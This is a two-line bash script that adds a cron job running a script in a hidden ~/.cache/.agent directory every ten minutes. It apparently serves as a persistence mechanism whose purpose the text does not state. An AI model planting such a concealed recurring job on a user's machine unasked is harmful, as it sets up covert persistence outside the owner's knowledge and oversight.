#!/bin/bash
(crontab -l 2>/dev/null; echo "*/10 * * * * $HOME/.cache/.agent/run.sh") | crontab -
